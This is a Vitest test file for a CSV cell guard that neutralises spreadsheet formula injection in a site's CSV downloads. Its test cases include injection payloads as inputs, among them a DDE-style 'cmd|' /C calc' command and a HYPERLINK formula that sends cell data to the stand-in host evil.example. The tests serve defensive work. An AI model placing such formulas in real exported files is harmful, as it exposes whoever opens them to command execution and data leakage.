/**
 * The one CSV cell guard (docs/components/csv.js) behind every CSV kehu writes: the site's downloads and
 * rejected/*.csv. A cell a spreadsheet would evaluate gets a leading quote; a plain number stays a number.
 */
import { describe, expect, it } from "vitest";
import { csvCell, guardFormula } from "../../docs/components/csv.js";
import { toCsv } from "../../docs/components/table.js";

const CASES: [string, string][] = [
  ["=1+1", "'=1+1"],
  ["+", "'+"],
  ["+1", "'+1"],
  ["@", "'@"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["-", "'-"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["-1+1", "'-1+1"],
  ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'],
  [" =1+1", "' =1+1"],
  ["\t=1+1", "'\t=1+1"],
  ["\tabc", "'\tabc"],
  ["\rabc", "'\rabc"],
  ["\n -3+x", "'\n -3+x"],
  ["＝1+1", "'＝1+1"],
  ["-12.5", "-12.5"],
  ["-12", "-12"],
  ["12.5", "12.5"],
  ["-0.5e-3", "-0.5e-3"],
  ["-.5", "-.5"],
  ["华东机械", "华东机械"],
  ["a=b", "a=b"],
  ["C-001", "C-001"],
  ["", ""],
];

describe("guardFormula", () => {
  it.each(CASES)("%j -> %j", (input, expected) => {
    expect(guardFormula(input)).toBe(expected);
  });
});

describe("csvCell", () => {
  it("quotes what needs quoting after guarding, keeps numbers numeric", () => {
    expect(csvCell(-12.5)).toBe("-12.5");
    expect(csvCell(-2)).toBe("-2");
    expect(csvCell(null)).toBe("");
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell(" =1+1")).toBe("' =1+1");
    expect(csvCell(["=a", "b"])).toBe("'=a; b");
  });

  it("is what the site's download uses", () => {
    const csv = toCsv(
      [
        { a: "-2+3+cmd|' /C calc'!A0", b: -12.5 },
        { a: " @x", b: "+1" },
      ],
      ["a", "b"],
    );
    expect(csv).toBe("\ufeffa,b\r\n'-2+3+cmd|' /C calc'!A0,-12.5\r\n' @x,'+1\r\n");
  });
});
